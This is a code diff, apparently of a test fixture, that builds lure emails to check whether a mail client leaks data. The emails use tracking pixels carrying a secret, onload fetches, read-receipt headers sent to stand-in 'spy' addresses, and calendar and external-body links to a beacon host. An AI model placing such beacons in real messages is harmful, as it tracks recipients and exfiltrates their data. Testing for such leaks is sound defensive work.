@@ -195,16 +195,30 @@ function lures(): readonly Buffer[] {
     ].join("\r\n")
   const html = `<html><head><link rel="stylesheet" href="${pixel}/style.css"><link rel="prefetch" href="${pixel}/next"></head><body background="${pixel}/back.png" onload="fetch('${pixel}/load')"><img src="${pixel}/pixel.gif?${secret}" width="1" height="1"><iframe src="${pixel}/frame"></iframe><a href="${pixel}/link">see</a><form action="${pixel}/form"></form>${secret}</body></html>`
   return [
-    letter(["Disposition-Notification-To: <spy@receipt.example>",
-      "Return-Receipt-To: <spy@receipt.example>",
-      "X-Confirm-Reading-To: <spy@receipt.example>",
-      "Reply-To: <spy@reply.example>",
-      `List-Unsubscribe: <${pixel}/leave>, <mailto:leave@list.example>`),
-      "List-Unsubscribe-Post: List-Unsubscribe=One-Click",
-      "Content-Type: text/html; charset=utf-8"], `${html}\r\n`),
-    letter(["Content-Type: text/calendar; method=REQUEST; charset=utf-8"], `BEGIN:VCALENDAR\r\nVERSION:2.0\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\nUID:$secret@lure.example\r\nORGANIZER:mailto:spy@receipt.example\r\nATTENDEE;RSVP=TRUE:mailto:ada@house.example\r\nATTACH:$pixel/plan.pdf\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n`),
-    letter([`Content-Type: message/external-body; access-type=URL; URL="${pixel}/body"`], `Content-Type: text/plain\r\nContent-ID: <${secret}@lure.example>\r\n\r\n`),
-    letter(["Content-Type: text/plain", "X-Image-URL: http://127.0.0.9:8099/face.png", "Face: "], `${pixel}/only-a-link\r\nmailto:spy@receipt.example\r\n${secret}\r\n`),
+    letter(
+      [
+        "Disposition-Notification-To: <spy@receipt.example>",
+        "Return-Receipt-To: <spy@receipt.example>",
+        "X-Confirm-Reading-To: <spy@receipt.example>",
+        "Reply-To: <spy@reply.example>",
+        `List-Unsubscribe: <${pixel}/leave>, <mailto:leave@list.example>`,
+        "List-Unsubscribe-Post: List-Unsubscribe=One-Click",
+        "Content-Type: text/html; charset=utf-8",
+      ],
+      `${html}\r\n`,
+    ),
+    letter(
+      ["Content-Type: text/calendar; method=REQUEST; charset=utf-8"],
+      `BEGIN:VCALENDAR\r\nVERSION:2.0\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\nUID:${secret}@lure.example\r\nORGANIZER:mailto:spy@receipt.example\r\nATTENDEE;RSVP=TRUE:mailto:ada@house.example\r\nATTACH:${pixel}/plan.pdf\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n`,
+    ),
+    letter(
+      [`Content-Type: message/external-body; access-type=URL; URL="${pixel}/body"`],
+      `Content-Type: text/plain\r\nContent-ID: <${secret}@lure.example>\r\n\r\n`,
+    ),
+    letter(
+      ["Content-Type: text/plain", "X-Image-URL: http://127.0.0.9:8099/face.png", "Face: "],
+      `${pixel}/only-a-link\r\nmailto:spy@receipt.example\r\n${secret}\r\n`,
+    ),
   ].map(text => Buffer.from(text))
 }
 
